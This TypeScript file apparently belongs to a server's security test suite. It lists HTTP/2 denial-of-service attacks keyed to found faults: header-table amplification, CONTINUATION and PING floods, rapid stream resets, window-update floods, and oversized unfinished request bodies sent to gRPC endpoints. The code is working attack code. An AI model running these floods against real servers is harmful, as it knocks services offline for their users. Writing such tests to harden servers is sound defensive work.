import { setTimeout as delay } from "node:timers/promises";
import {
  frameTypes,
  RawHttp2Peer,
  rawCall,
  rawField,
  rawFrame,
  rawMessage,
  rawSettings,
  rawUint32,
} from "./raw-http2-peer.ts";

export interface Http2Attack {
  /** Number of the fault that it found. */
  fault: string;
  what: string;
  /** Ends when everything was sent, or the other end has hung up. */
  run(connect: () => Promise<RawHttp2Peer>): Promise<void>;
}

const endStream = 1;
const endHeaders = 4;
const hello = "/modal.client.ModalClient/ClientHello";
/** Something that takes a while, or that is not for callers without a token. */
const put = "/modal.client.ModalClient/FunctionPutInputs";
const call = rawCall(hello);
const opened = (streamId: number, path = hello) => rawFrame("headers", endHeaders, streamId, rawCall(path));
const many = (count: number, part: (index: number) => Uint8Array) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => part(index)));

/** A header block in as many frames as it needs. */
function inFrames(block: Buffer, streamId = 1): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const flags = at + 16_384 >= block.length ? endHeaders : 0;
    const part = block.subarray(at, at + 16_384);
    parts.push(
      rawFrame(at === 0 ? "headers" : "continuation", at === 0 ? flags | endStream : flags, streamId, part),
    );
  }
  return Buffer.concat(parts);
}

/** One large entry of the header table, named again and again. */
const unfolding = (name: string, first: string, count: number) =>
  inFrames(
    Buffer.concat([
      ...(name.startsWith(":") ? [] : [call]),
      rawField(name, first, 0x40),
      Buffer.alloc(count, 0xbe),
    ]),
  );

/** The same bytes, again and again, until they are `bytes` or the other end hangs up. */
async function flood(peer: RawHttp2Peer, part: Buffer, bytes: number): Promise<void> {
  for (let sent = 0; sent < bytes; sent += part.length) if (!(await within(peer.push(part)))) return;
  await delay(200);
}

// An end that stops reading has won: nobody waits for it for ever.
async function within(pushed: Promise<boolean>): Promise<boolean> {
  return Promise.race([pushed, delay(3_000, false)]);
}

/** A flood of `frames` after `begin`. */
const flooding = (
  fault: string,
  what: string,
  options: { begin?: () => Buffer; frames: () => Buffer; bytes?: number; unread?: boolean },
): Http2Attack => ({
  fault,
  what,
  async run(connect) {
    using peer = await connect();
    if (options.begin) await within(peer.push(options.begin()));
    if (options.unread) peer.stopReading();
    await flood(peer, options.frames(), options.bytes ?? 40e6);
  },
});

const openStreams = () => many(9_990, (index) => opened(2 * index + 1));
const windows = Array.from({ length: 2_700 }, (_, index): [number, number] => [4, 65_535 + (index & 1)]);
const ping = rawFrame("ping", 0, 0, Buffer.alloc(8));

/** A body that is begun with a claim of `claimed` bytes, `sent` of which come. */
function unfinished(what: string, options: { claimed: number; sent: number; path: string }): Http2Attack {
  return {
    fault: "B7",
    what,
    async run(connect) {
      using peer = await connect();
      const piece = Buffer.alloc(16_384);
      for (let stream = 1; stream < 80; stream += 2) {
        const begun = [
          opened(stream, options.path),
          rawFrame("data", 0, stream, rawMessage(piece.subarray(0, 0), options.claimed)),
        ];
        if (!(await within(peer.push(...begun)))) return;
        // As much as the other end takes without a word.
        for (let sent = 0; sent < options.sent; sent += piece.length)
          if (!(await within(peer.push(rawFrame("data", 0, stream, piece))))) return;
      }
      await delay(500);
    },
  };
}

/** What peers without a token and containers have done, or could do, to a server of HTTP/2. */
export const http2Attacks: Http2Attack[] = [
  ...[
    ["one entry of :path", ":path", "A".repeat(4_059)],
    ["one entry of an ordinary header", "x-long", "A".repeat(4_058)],
    ["an empty entry", "x", ""],
  ].map(([what, name = "", value = ""]): Http2Attack => ({
    fault: "B4",
    what: `headers that name ${what} 60,000 times`,
    async run(connect) {
      for (let round = 0; round < 20; round += 1) {
        using peer = await connect();
        await within(peer.push(unfolding(name, value, 60_000)));
        await Promise.race([peer.whenClosed(), delay(3_000)]);
      }
    },
  })),
  {
    fault: "B4",
    what: "endless different entries of the header table",
    async run(connect) {
      using peer = await connect();
      for (let stream = 1; stream < 4_000; stream += 2) {
        const block = Buffer.concat([
          call,
          many(15, (index) => rawField(`x-${stream}-${index}`, "v".repeat(900), 0x40)),
        ]);
        if (!(await within(peer.push(inFrames(block, stream))))) return;
      }
    },
  },
  flooding("B5", "9,990 streams, then updates of their windows", {
    begin: openStreams,
    frames: () => many(1_200, () => rawFrame("windowUpdate", 0, 0, rawUint32(1))),
  }),
  flooding("B5", "9,990 streams, then settings full of windows", {
    begin: openStreams,
    frames: () => rawSettings(...windows),
  }),
  flooding("B5", "streams, then updates of a single one's window", {
    begin: () => many(200, (index) => opened(2 * index + 1)),
    frames: () => many(1_200, () => rawFrame("windowUpdate", 0, 1, rawUint32(1))),
  }),
  flooding("B6", "endless empty CONTINUATION frames", {
    begin: () => rawFrame("headers", 0, 1, call),
    frames: () => many(7_000, () => rawFrame("continuation", 0, 1)),
  }),
  flooding("B6", "endless CONTINUATION frames of a byte", {
    begin: () => rawFrame("headers", 0, 1, call),
    frames: () => many(7_000, () => rawFrame("continuation", 0, 1, Buffer.alloc(1))),
  }),
  flooding("B6", "endless empty DATA frames", {
    begin: () => opened(1),
    frames: () => many(7_000, () => rawFrame("data", 0, 1)),
  }),
  flooding("B6", "endless frames of a type that there is not", {
    frames: () => many(7_000, () => rawFrame(99, 0, 0)),
  }),
  flooding("B6", "endless PRIORITY frames", {
    frames: () => many(7_000, (index) => rawFrame("priority", 0, 2 * index + 1, Buffer.alloc(5))),
  }),
  ...[hello, put].map((path): Http2Attack => ({
    fault: "B7",
    what: `16 MiB of empty items for ${path}`,
    async run(connect) {
      using peer = await connect();
      const piece = Buffer.alloc(16_384);
      for (let at = 0; at < piece.length; at += 2) piece[at] = (4 << 3) | 2;
      await within(
        peer.push(
          opened(1, path),
          rawFrame("data", 0, 1, rawMessage(piece.subarray(0, 0), 16 * 1024 * 1024)),
        ),
      );
      for (let sent = 0; sent < 1024; sent += 1) {
        // What the window of a stream holds, and what was added to it: none is added to a call that was answered.
        const updates = () =>
          peer.frames.filter(({ type, streamId }) => type === frameTypes.windowUpdate && streamId === 1)
            .length;
        const isBlocked = () => sent >= 255 + 64 * updates();
        for (let wait = 0; isBlocked() && wait < 100; wait += 1) await delay(10);
        if (isBlocked()) return;
        if (!(await within(peer.push(rawFrame("data", sent === 1023 ? endStream : 0, 1, piece))))) return;
      }
      await delay(1_000);
    },
  })),
  unfinished("bodies of 60 MiB, none of them finished", { claimed: 60e6, sent: 4e6, path: put }),
  unfinished("bodies without a token that are not finished", { claimed: 60_000, sent: 16_384, path: hello }),
  unfinished("claims of 100 MiB with nothing behind them", { claimed: 100e6, sent: 0, path: put }),
  unfinished("claims of 4 GiB", { claimed: 2 ** 32 - 1, sent: 16_384, path: put }),
  flooding("B8", "PING frames whose answers are not read", {
    frames: () => many(7_000, () => ping),
    unread: true,
  }),
  flooding("B8", "PING frames", { frames: () => many(7_000, () => ping) }),
  flooding("B8", "settings whose acknowledgements are not read", {
    frames: () => many(7_000, () => rawSettings()),
    unread: true,
  }),
  ...[true, false].map((unread): Http2Attack => ({
    fault: "B8",
    what: unread ? "calls whose answers are not read" : "rapid resets",
    async run(connect) {
      using peer = await connect();
      if (unread) peer.stopReading();
      for (let stream = 1; stream < 60_000; stream += 200) {
        const burst = many(100, (index) => {
          const id = stream + 2 * index;
          const end = unread
            ? rawFrame("data", endStream, id, rawMessage())
            : rawFrame("resetStream", 0, id, rawUint32(8));
          return Buffer.concat([opened(id), end]);
        });
        if (!(await within(peer.push(burst)))) return;
      }
    },
  })),
  ...(["ping", "settings"] as const).map((type) =>
    flooding("B8", `acknowledgements of ${type} that nobody has asked for`, {
      frames: () => many(7_000, () => rawFrame(type, 1, 0, Buffer.alloc(type === "ping" ? 8 : 0))),
    }),
  ),
  ...[true, false].map((waits) =>
    flooding("B8", `goodbyes, ${waits ? "while a request is open" : "again and again"}`, {
      ...(waits ? { begin: () => opened(1) } : {}),
      frames: () => many(240_000, () => rawFrame("goAway", 0, 0, Buffer.alloc(8))),
    }),
  ),
  ...[rawMessage(), Buffer.from([0, 255, 255, 255, 255])].map((message, index): Http2Attack => ({
    fault: "B8",
    what: index === 0 ? "calls without a token" : "malformed calls without a token",
    async run(connect) {
      using peer = await connect();
      for (let stream = 1; stream < 60_000; stream += 200) {
        const burst = many(100, (at) => {
          const id = stream + 2 * at;
          return Buffer.concat([opened(id), rawFrame("data", endStream, id, message)]);
        });
        if (!(await within(peer.push(burst)))) return;
      }
    },
  })),
  flooding("B8", "requests that break the rules", {
    frames: () =>
      many(300, (index) =>
        rawFrame("headers", endStream | endHeaders, 2 * index + 1, rawField(":path", "/")),
      ),
  }),
];
